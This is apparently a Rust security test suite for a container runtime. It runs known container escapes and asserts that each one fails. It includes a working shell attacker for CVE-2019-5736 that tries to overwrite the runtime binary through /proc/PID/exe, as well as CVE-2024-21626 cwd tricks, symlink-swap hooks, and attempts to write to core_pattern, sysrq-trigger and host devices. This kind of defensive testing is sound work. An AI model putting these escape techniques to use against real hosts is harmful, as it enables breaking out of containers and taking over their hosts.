//! Known container escapes, each attempted for real and expected to fail:
//! overwriting the runtime binary through /proc/PID/exe (CVE-2019-5736),
//! a working directory outside the rootfs (CVE-2024-21626, beyond what
//! robustness.rs covers), mount targets swapped for symlinks to the host
//! between the runtime's checks, /proc and /sys over symlinks, masked and
//! read-only kernel interfaces, host devices, privileged syscalls without
//! the capability, and signals to host processes.

mod common;

use std::fs::{self, File};
use std::hash::Hasher;
use std::io::Read;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{
    Bundle, Out, Runtime, TIMEOUT, host_mounts_mentioning, mounts_under, runtime_bin,
    runtime_is_runc, wait_file_contains, wait_for,
};

// ---------------------------------------------------------------------------
// CVE-2019-5736: the runtime binary overwritten through /proc/PID/exe

/// A private copy of the runtime binary that the attack tests run as the
/// runtime, so that a successful attack damages only the copy.
struct RuntimeCopy {
    path: PathBuf,
    digest: (u64, u64),
}

/// (length, SipHash) of a file.
fn digest(path: &Path) -> (u64, u64) {
    let mut f = File::open(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut h = std::hash::DefaultHasher::new();
    let mut buf = vec![0u8; 1 << 20];
    let mut len = 0u64;
    loop {
        let n = f.read(&mut buf).unwrap();
        if n == 0 {
            break;
        }
        len += n as u64;
        h.write(&buf[..n]);
    }
    (len, h.finish())
}

impl RuntimeCopy {
    fn new(rt: &Runtime) -> Self {
        let dir = rt.host_dir("runtime-copy");
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
        let src = runtime_bin();
        let path = dir.join(src.file_name().expect("runtime binary name"));
        fs::copy(&src, &path).unwrap_or_else(|e| panic!("copy {}: {e}", src.display()));
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        let digest = digest(&path);
        RuntimeCopy { path, digest }
    }

    /// Starts `<copy> --root <root> ARGS...`; output goes to files under `io`.
    fn spawn(&self, rt: &Runtime, io: &Path, args: &[&str]) -> Child {
        let n = fs::read_dir(io).map(|d| d.count()).unwrap_or(0);
        Command::new(&self.path)
            .arg("--root")
            .arg(rt.root())
            .args(args)
            .current_dir(rt.base())
            .stdin(Stdio::null())
            .stdout(File::create(io.join(format!("{n}.out"))).unwrap())
            .stderr(File::create(io.join(format!("{n}.err"))).unwrap())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot run {}: {e}", self.path.display()))
    }

    /// Runs `<copy> --root <root> ARGS...` to completion (bounded).
    #[track_caller]
    fn cmd(&self, rt: &Runtime, args: &[&str]) -> Out {
        let io = rt.host_dir("copy-io");
        let mut child = self.spawn(rt, &io, args);
        let status = wait_child(&mut child, Duration::from_secs(60));
        Out {
            args: args.iter().map(|s| s.to_string()).collect(),
            status,
            stdout: fs::read_to_string(io.join("0.out")).unwrap_or_default(),
            stderr: fs::read_to_string(io.join("0.err")).unwrap_or_default(),
        }
    }

    #[track_caller]
    fn assert_intact(&self, log: &str) {
        assert_eq!(
            digest(&self.path),
            self.digest,
            "the runtime binary {} was modified from inside the container; attacker log:\n{log}",
            self.path.display()
        );
    }
}

/// Waits for `child` (killing it after `timeout`).
#[track_caller]
fn wait_child(child: &mut Child, timeout: Duration) -> std::process::ExitStatus {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st;
        }
        if Instant::now() >= deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("runtime copy did not finish within {timeout:?}");
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// Copies the shared libraries `bin` needs (per ldd) into `rootfs`, so the
/// runtime binary can run there when the container makes it its interpreter.
fn copy_libs_of(bin: &Path, rootfs: &Path) {
    let ldd = Command::new("ldd").arg(bin).output().expect("ldd");
    for l in String::from_utf8_lossy(&ldd.stdout).lines() {
        let Some(lib) = l.split_whitespace().find(|w| w.starts_with('/')) else {
            continue;
        };
        let dst = rootfs.join(lib.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().unwrap()).unwrap();
        if dst.symlink_metadata().is_err() {
            fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
        }
    }
}

/// The container's init: watches the pids the container's pid namespace
/// hands out next (each `exec` makes one) and grabs, through
/// /proc/PID/exe, the first one whose executable is not the container's
/// busybox: the runtime joining the container, or the runtime run as the
/// interpreter of `/evil`. Once it holds one, it tries (until told to
/// stop, then once more) to reopen it for writing and append a marker:
/// that succeeds as soon as no process executes the binary any more,
/// unless the runtime protects itself. Only builtins run in the watch
/// loop, so the attacker itself uses no pids (and /proc/loadavg, not
/// ns_last_pid, which busybox's byte-wise `read` would see only the first
/// digit of).
const ATTACKER: &str = r#"
# The last field of /proc/loadavg: the pid last handed out in our namespace.
read x x x x last < /proc/loadavg
first=$((last + 1)); p=$first; grabbed=
echo ready > /out/ready
while [ ! -e /out/stop ]; do
  if [ -e /proc/$p/exe ]; then
    if [ /proc/$p/exe -ef /bin/busybox ]; then
      p=$((p + 1))
    elif command exec 3</proc/$p/exe; then
      grabbed=$p; break
    fi
  else
    read x x x x last < /proc/loadavg
    # Handed out, and gone unseen: the next one.
    if [ "$last" -ge "$p" ] && [ ! -e /proc/$p ]; then p=$((p + 1)); fi
  fi
done 2>/dev/null
if [ -n "$grabbed" ]; then
  echo "grabbed pid $grabbed: $(readlink /proc/self/fd/3)" >> /out/log
  while :; do
    [ -e /out/stop ] && final=1
    if echo PWNED-BY-CONTAINER >> /proc/self/fd/3; then echo wrote >> /out/log; break; fi
    [ -n "$final" ] && break
  done 2>/dev/null
  [ -n "$final" ] && { echo PWNED-BY-CONTAINER >> /proc/self/fd/3; } 2>> /out/log
fi
echo "watched pids $first..$((p - 1))" >> /out/log
echo done > /out/done
"#;

/// Runs `execs` `exec`s (4 at a time) of the runtime copy into a container
/// whose init is [`ATTACKER`]; returns the attacker's log after asserting
/// the runtime copy is intact.
fn attack_runtime_binary(name: &str, caps: &[&str], interpreter: bool, execs: usize) -> String {
    let rt = Runtime::new(name);
    let copy = RuntimeCopy::new(&rt);
    let out = rt.host_dir("out");
    let mut b = rt.bundle();
    b.bind(&out, "/out", false).sh(ATTACKER).add_caps(caps);
    let target = if interpreter {
        // The container's "binary" makes the kernel run whatever
        // /proc/self/exe is in the process exec'ing it: the runtime.
        b.write_file("/evil", "#!/proc/self/exe\n");
        copy_libs_of(&copy.path, &b.rootfs());
        "/evil"
    } else {
        "true"
    };
    b.save();
    let id = rt.id();
    copy.cmd(&rt, &["create", "--bundle", b.path_str(), &id])
        .ok();
    copy.cmd(&rt, &["start", &id]).ok();
    wait_file_contains(&out.join("ready"), "ready");
    std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                for _ in 0..execs.div_ceil(4) {
                    // Success or not does not matter (/evil is not a program).
                    let _ = copy.cmd(&rt, &["exec", &id, target]);
                }
            });
        }
    });
    // No process runs the binary any more: the attacker's last chance.
    fs::write(out.join("stop"), "").unwrap();
    let finished = wait_for(TIMEOUT, || out.join("done").exists());
    let log = fs::read_to_string(out.join("log")).unwrap_or_default();
    copy.assert_intact(&log);
    assert!(finished, "the attacker never finished; log:\n{log}");
    assert!(
        !log.contains("wrote"),
        "the attacker reports a write: {log}"
    );
    // The attacker really watched every exec.
    let watched = log
        .lines()
        .find_map(|l| l.strip_prefix("watched pids "))
        .and_then(|r| r.split_once(".."))
        .map(|(a, b)| b.parse::<i64>().unwrap_or(0) - a.parse::<i64>().unwrap_or(0) + 1)
        .unwrap_or(0);
    // (It may see the stop file before it has passed the last pid or two.)
    assert!(
        log.contains("grabbed") || watched + 2 >= execs as i64,
        "the attacker saw only {watched} of {execs} execs: {log}"
    );
    eprintln!("attacker log:\n{log}");
    rt.cmd(&["delete", "--force", &id]).ok();
    rt.assert_gone(&id);
    log
}

#[test]
fn cve_2019_5736_exec_race_cannot_overwrite_runtime() {
    attack_runtime_binary("esc-5736-race", &[], false, 40);
}

/// With CAP_SYS_PTRACE the container may open /proc/PID/exe of a
/// non-dumpable process: the binary itself must refuse writes.
#[test]
fn cve_2019_5736_exec_race_with_cap_sys_ptrace() {
    attack_runtime_binary("esc-5736-ptrace", &["CAP_SYS_PTRACE"], false, 40);
}

/// The original exploit: the process `exec` starts is the runtime itself,
/// run by the kernel as the interpreter of `#!/proc/self/exe` (dumpable
/// again after execve); the attacker always gets hold of its executable.
#[test]
fn cve_2019_5736_runtime_as_interpreter_cannot_be_overwritten() {
    let log = attack_runtime_binary("esc-5736-interp", &[], true, 8);
    assert!(log.contains("grabbed"), "the attack never got going: {log}");
}

// ---------------------------------------------------------------------------
// CVE-2024-21626: a working directory outside the rootfs (what robustness.rs
// does not cover: symlinks inside the rootfs to /proc/self/fd/N, and "..")

/// Names that would show that a listing is of a host directory.
const HOST_NAMES: [&str; 7] = [
    "config.json",
    "state.json",
    "cgroup.procs",
    "pea-host-canary",
    "bundles",
    "rootfs",
    "start.sock",
];

/// Output of `readlink /proc/self/cwd; ls -a`: a cwd inside the container
/// (or an error), never a host directory.
#[track_caller]
fn assert_not_host_dir(text: &str, what: &str) {
    let mut lines = text.lines();
    let cwd = lines.next().unwrap_or_default();
    assert!(
        cwd.starts_with('/') && !cwd.contains("unreachable"),
        "{what}: cwd outside the container: {text}"
    );
    for l in lines {
        assert!(
            !HOST_NAMES.contains(&l.trim()),
            "{what}: host files visible: {text}"
        );
    }
}

/// Everything of container `id` is gone, including host mounts naming its bundle.
#[track_caller]
fn assert_nothing_left(rt: &Runtime, id: &str, b: &Bundle) {
    rt.assert_gone(id);
    let m = host_mounts_mentioning(b.path_str());
    assert!(m.is_empty(), "host mounts naming the bundle: {m:?}");
}

#[test]
fn cve_2024_21626_cwd_symlink_to_proc_self_fd_stays_inside() {
    let rt = Runtime::new("esc-21626-link");
    fs::write(rt.base().join("pea-host-canary"), "").unwrap();
    let out = rt.host_dir("out");
    let mut b = rt.bundle();
    fs::write(b.path().join("pea-host-canary"), "").unwrap();
    for n in 3..=12 {
        symlink(
            format!("/proc/self/fd/{n}"),
            b.rootfs().join(format!("leak{n}")),
        )
        .unwrap();
    }
    b.bind(&out, "/out", false)
        .sh("{ readlink /proc/self/cwd; ls -a; } > /out/cwd 2>&1");
    for n in 3..=12 {
        let what = format!("process.cwd /leak{n} -> /proc/self/fd/{n}");
        b.cwd(&format!("/leak{n}"));
        let _ = fs::remove_file(out.join("cwd"));
        let id = rt.id();
        let created = rt.create(&b, &id);
        if !created.success() {
            created.failed();
            assert_nothing_left(&rt, &id, &b);
            continue;
        }
        if rt.start(&id).success() {
            rt.wait_status(&id, "stopped");
            let text = fs::read_to_string(out.join("cwd")).unwrap_or_default();
            assert_not_host_dir(&text, &what);
        }
        rt.cmd(&["delete", "--force", &id]).ok();
        assert_nothing_left(&rt, &id, &b);
    }

    b.cwd("/").long_running();
    let (id, _) = rt.start_container(&b);
    for n in 3..=12 {
        for cwd in [
            format!("/leak{n}"),
            format!("/leak{n}/.."),
            format!("/leak{n}/../.."),
        ] {
            let r = rt.exec(&[
                "--cwd",
                &cwd,
                &id,
                "sh",
                "-c",
                "readlink /proc/self/cwd; ls -a",
            ]);
            if r.success() {
                assert_not_host_dir(&r.stdout, &format!("exec --cwd {cwd}"));
            } else {
                r.failed();
            }
        }
    }
    rt.cmd(&["delete", "--force", &id]).ok();
    assert_nothing_left(&rt, &id, &b);
}

/// "/../../.." is the container's root, for create and for exec.
#[test]
fn cve_2024_21626_dotdot_cwd_is_the_container_root() {
    let rt = Runtime::new("esc-21626-dotdot");
    fs::write(rt.base().join("pea-host-canary"), "").unwrap();
    let mut b = rt.bundle();
    b.cwd("/../../..").sh("readlink /proc/self/cwd; ls -a");
    let id = rt.id();
    let out = rt.run(&b, &id).ok();
    assert_not_host_dir(&out.stdout, "process.cwd /../../..");
    assert_eq!(out.lines()[0], "/", "{out:?}");
    assert!(out.lines().contains(&"bin".to_string()), "{out:?}");

    b.cwd("/").long_running();
    let (id, _) = rt.start_container(&b);
    for cwd in [
        "/../../..",
        "/tmp/../../../../..",
        "/proc/self/root/../../..",
    ] {
        let r = rt
            .exec(&[
                "--cwd",
                cwd,
                &id,
                "sh",
                "-c",
                "readlink /proc/self/cwd; ls -a",
            ])
            .ok();
        assert_not_host_dir(&r.stdout, &format!("exec --cwd {cwd}"));
        assert!(r.lines().contains(&"bin".to_string()), "{cwd}: {r:?}");
    }
    rt.cmd(&["delete", "--force", &id]).ok();
    assert_nothing_left(&rt, &id, &b);
}

// ---------------------------------------------------------------------------
// mount targets swapped for symlinks to the host; /proc and /sys on symlinks

/// Removes an (empty, unmounted) directory the test must not have caused to exist.
struct RmdirGuard(PathBuf);

impl Drop for RmdirGuard {
    fn drop(&mut self) {
        if self.0.exists() && mounts_under(&self.0).is_empty() {
            let _ = fs::remove_dir(&self.0);
        }
    }
}

/// A createRuntime hook (on the host, namespaces made, nothing mounted yet)
/// swaps a mount target, a target's parent and a bind-mounted file of the
/// rootfs for symlinks to host paths: every mount lands inside the rootfs.
#[test]
fn mount_targets_swapped_for_host_symlinks_stay_inside() {
    let rt = Runtime::new("esc-swap");
    let out = rt.host_dir("out");
    let victim = rt.host_dir("victim");
    fs::write(victim.join("canary"), "host\n").unwrap();
    let victim_file = rt.host_dir("victim-file").join("file");
    fs::write(&victim_file, "host-file\n").unwrap();
    let bind_src = rt.host_dir("bind-src").join("file");
    fs::write(&bind_src, "from-bind\n").unwrap();
    let id = rt.id();
    let escape = format!("pea-swap-{id}");
    let _guard = RmdirGuard(PathBuf::from("/").join(&escape));
    let (src1, src2) = (format!("peaswap1-{id}"), format!("peaswap2-{id}"));

    let mut b = rt.bundle();
    let r = b.rootfs();
    fs::create_dir_all(r.join("mnt/target")).unwrap();
    fs::create_dir_all(r.join("mnt/parent").join(&escape)).unwrap();
    fs::write(r.join("etc/target-file"), "").unwrap();
    let swap = format!(
        "cat > /dev/null; set -e; cd {r}; \
         rm -rf mnt/target; ln -s {victim} mnt/target; \
         rm -rf mnt/parent; ln -s / mnt/parent; \
         rm -f etc/target-file; ln -s {victim_file} etc/target-file",
        r = r.display(),
        victim = victim.display(),
        victim_file = victim_file.display(),
    );
    b.mount("/mnt/target", "tmpfs", &src1, &["size=1m"])
        .mount(
            &format!("/mnt/parent/{escape}/x"),
            "tmpfs",
            &src2,
            &["size=1m"],
        )
        .mount(
            "/etc/target-file",
            "bind",
            bind_src.to_str().unwrap(),
            &["bind", "ro"],
        )
        .bind(&out, "/out", false)
        .hook("createRuntime", "/bin/sh", &["sh", "-c", &swap])
        .sh(
            "grep peaswap /proc/self/mountinfo > /out/inside; cat /etc/target-file > /out/file; \
             echo ready > /out/ready; trap 'exit 0' TERM; sleep 100000 & wait",
        );
    let created = rt.create(&b, &id);

    // Whatever create did, the host side of every symlink is untouched.
    let host_side = || {
        let entries: Vec<_> = fs::read_dir(&victim)
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert_eq!(entries, ["canary"], "host dir behind the symlink touched");
        assert_eq!(fs::read_to_string(victim.join("canary")).unwrap(), "host\n");
        assert_eq!(fs::read_to_string(&victim_file).unwrap(), "host-file\n");
        assert!(
            !PathBuf::from("/").join(&escape).exists(),
            "/{escape} made on the host"
        );
        for src in [&src1, &src2] {
            let m = host_mounts_mentioning(src);
            assert!(m.is_empty(), "mount landed on the host: {m:?}");
        }
        let m = mounts_under(rt.base());
        assert!(m.is_empty(), "host mounts under the test dir: {m:?}");
    };
    if !created.success() {
        created.failed();
        host_side();
        assert_nothing_left(&rt, &id, &b);
        return;
    }
    rt.start(&id).ok();
    wait_file_contains(&out.join("ready"), "ready");
    host_side();
    // Inside: the mounts sit where the symlinks lead within the rootfs.
    // (runc runs createRuntime hooks after its mounts: there the swap only
    // changes the host's view of the bundle.)
    if runtime_is_runc() {
        rt.cmd(&["delete", "--force", &id]).ok();
        assert_nothing_left(&rt, &id, &b);
        return;
    }
    let inside = fs::read_to_string(out.join("inside")).unwrap();
    let mp_of = |src: &str| {
        inside
            .lines()
            .find(|l| l.contains(src))
            .and_then(|l| l.split(' ').nth(4))
            .map(str::to_string)
    };
    assert_eq!(
        mp_of(&src1),
        Some(victim.to_string_lossy().into_owned()),
        "{inside}"
    );
    assert_eq!(mp_of(&src2), Some(format!("/{escape}/x")), "{inside}");
    assert_eq!(fs::read_to_string(out.join("file")).unwrap(), "from-bind\n");
    rt.kill(&id, "TERM").ok();
    rt.wait_status(&id, "stopped");
    rt.delete(&id).ok();
    assert_nothing_left(&rt, &id, &b);
    host_side();
}

/// A rootfs whose /proc (or /sys) is a symlink, even to a directory inside
/// it: refused (procfs and sysfs only on real directories), nothing left.
#[test]
fn proc_and_sysfs_on_symlinks_are_refused() {
    let rt = Runtime::new("esc-procsym");
    for (dir, fake) in [("proc", "fakeproc"), ("sys", "fakesys")] {
        let mut b = rt.bundle();
        let r = b.rootfs();
        fs::create_dir_all(r.join("tmp").join(fake)).unwrap();
        fs::remove_dir(r.join(dir)).unwrap();
        symlink(format!("/tmp/{fake}"), r.join(dir)).unwrap();
        let marker = rt.host_dir("marker");
        b.bind(&marker, "/marker", false)
            .sh("touch /marker/ran; sleep 100000");
        let id = rt.id();
        rt.create(&b, &id)
            .failed()
            .mentions_any(&[&format!("/{dir}")]);
        assert_nothing_left(&rt, &id, &b);
        let m = mounts_under(&r);
        assert!(m.is_empty(), "mounts left in the rootfs: {m:?}");
        let entries = fs::read_dir(r.join("tmp").join(fake)).unwrap().count();
        assert_eq!(entries, 0, "/tmp/{fake} was written to");
        rt.start(&id).failed();
        assert!(!marker.join("ran").exists(), "the user process ran");
    }
}

// ---------------------------------------------------------------------------
// kernel interfaces, privileged operations, host devices, host processes

/// `try NAME CMD...`: prints "NAME: refused" unless CMD succeeds.
const TRY: &str = "try() { n=$1; shift; if \"$@\" >/dev/null 2>&1; then echo \"$n: ALLOWED\"; \
                   else echo \"$n: refused\"; fi; }; ";

#[track_caller]
fn assert_all_refused(out: &Out, expected: usize) {
    let lines = out.lines();
    assert_eq!(lines.len(), expected, "{out:?}");
    let allowed: Vec<&String> = lines.iter().filter(|l| !l.ends_with(": refused")).collect();
    assert!(
        allowed.is_empty(),
        "escape attempts that worked: {allowed:?}\n{out:?}"
    );
}

/// Writes to host-wide kernel settings, unmasking masked paths, new mounts
/// and namespaces: all refused with the default configuration
/// (capabilities AUDIT_WRITE, KILL, NET_BIND_SERVICE; read-only /proc/sys,
/// /proc/sysrq-trigger, /sys and root). A new user namespace needs no
/// capability (seccomp will refuse it); inside one, the container's mounts
/// stay locked, and mapping root needs CAP_SETFCAP. Values written are the
/// host's current ones, so a broken runtime cannot change the host here.
#[test]
fn kernel_interfaces_and_privileged_operations_are_refused() {
    let rt = Runtime::new("esc-kernel");
    let core = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let mut b = rt.bundle();
    b.env(&format!("CORE={}", core.trim_end()));
    let script = format!(
        r#"{TRY}
try core_pattern sh -c 'echo "$CORE" > /proc/sys/kernel/core_pattern'
try sysrq_trigger sh -c 'echo h > /proc/sysrq-trigger'
try drop_caches sh -c 'echo 1 > /proc/sys/vm/drop_caches'
try uevent_helper sh -c 'v=$(cat /sys/kernel/uevent_helper) && echo "$v" > /sys/kernel/uevent_helper'
try cgroup_mkdir mkdir /sys/fs/cgroup/pea-escape
try kcore_read sh -c 'test "$(head -c 1 /proc/kcore | wc -c)" -gt 0'
try kcore_umount umount /proc/kcore
try proc_sys_remount_rw mount -o remount,rw /proc/sys
try proc_sys_umount umount -l /proc/sys
try root_remount_rw mount -o remount,rw /
try mount_tmpfs mount -t tmpfs pea-escape /tmp
try mount_proc mount -t proc proc /tmp
try mount_cgroup_v1 mount -t cgroup -o rdma cgroup /tmp
try bind_root mount --bind / /tmp
try unshare_mount unshare -m true
try unshare_uts unshare -u true
try unshare_ipc unshare -i true
try unshare_net unshare -n true
try unshare_pid unshare -p -f true
try userns_map_root unshare -Ur true
try userns_root_remount_rw unshare -Um mount -o remount,rw /
try userns_kcore_umount unshare -Um umount /proc/kcore
try userns_proc_sys_umount unshare -Um umount -l /proc/sys
try userns_proc_sys_remount_rw unshare -Um mount -o remount,rw,bind /proc/sys
"#
    );
    b.sh(&script);
    let id = rt.id();
    let out = rt.run(&b, &id).ok();
    assert_all_refused(&out, 24);
    assert_eq!(
        fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        core
    );
}

/// The major:minor of a block device of this host (the root filesystem's
/// disk when it has one), else 8:0 (sda; opening a missing one would fail
/// with ENXIO, not with the devices cgroup's EPERM this test wants).
fn host_block_device() -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    let dev = fs::metadata("/").unwrap().dev();
    let (maj, min) = (nix::sys::stat::major(dev), nix::sys::stat::minor(dev));
    if maj != 0 && Path::new(&format!("/sys/dev/block/{maj}:{min}")).exists() {
        return (maj, min);
    }
    fs::read_dir("/sys/block")
        .into_iter()
        .flatten()
        .flatten()
        .find_map(|e| {
            let s = fs::read_to_string(e.path().join("dev")).ok()?;
            let (a, b) = s.trim().split_once(':')?;
            Some((a.parse().ok()?, b.parse().ok()?))
        })
        .unwrap_or((8, 0))
}

/// Host devices not granted by linux.devices: without CAP_MKNOD no node can
/// be made; with it, the devices cgroup still refuses to open one (reads
/// only, so a broken runtime reads 512 bytes at most).
#[test]
fn host_devices_cannot_be_opened() {
    let rt = Runtime::new("esc-devices");
    let (maj, min) = host_block_device();
    let script = format!(
        r#"
for d in "disk b {maj} {min}" "mem c 1 1" "kmsg c 1 11"; do
  set -- $d
  if mknod /dev/pea-$1 $2 $3 $4 2>/dev/null; then
    if head -c 512 /dev/pea-$1 > /dev/null 2> /dev/pea-err; then echo "$1: OPENED"
    elif grep -q 'Operation not permitted' /dev/pea-err; then echo "$1: made, open refused"
    else echo "$1: made, open failed otherwise: $(cat /dev/pea-err)"; fi
  else echo "$1: mknod refused"; fi
done
"#
    );
    let mut b = rt.bundle();
    b.sh(&script);
    let id = rt.id();
    let out = rt.run(&b, &id).ok();
    assert_eq!(
        out.lines(),
        [
            "disk: mknod refused",
            "mem: mknod refused",
            "kmsg: mknod refused"
        ],
        "{out:?}"
    );

    let mut b = rt.bundle();
    b.sh(&script).add_caps(&["CAP_MKNOD"]);
    let id = rt.id();
    let out = rt.run(&b, &id).ok();
    assert_eq!(
        out.lines(),
        [
            "disk: made, open refused",
            "mem: made, open refused",
            "kmsg: made, open refused"
        ],
        "{out:?}"
    );
}

/// Kills a host process on drop.
struct HostChild(Child);

impl Drop for HostChild {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// With CAP_KILL (in the default set) a container still cannot signal, nor
/// see, a process outside its pid namespace.
#[test]
fn signals_cannot_reach_host_processes() {
    let rt = Runtime::new("esc-signal");
    let sleeper = HostChild(
        Command::new("sleep")
            .arg("1000")
            .stdin(Stdio::null())
            .spawn()
            .expect("sleep"),
    );
    let pid = sleeper.0.id();
    let mut b = rt.bundle();
    b.sh(&format!(
        "{TRY}
try kill_9 kill -9 {pid}
try kill_0 kill -0 {pid}
try proc_entry test -e /proc/{pid}
try kill_all sh -c 'kill -9 -1; kill -0 {pid}'
"
    ));
    let id = rt.id();
    let out = rt.run(&b, &id).ok();
    if pid > 1000 {
        // (A tiny host pid could also name a process of the container.)
        assert_all_refused(&out, 4);
    }
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        common::proc_alive(pid as i32),
        "the host process {pid} was killed from the container: {out:?}"
    );
}
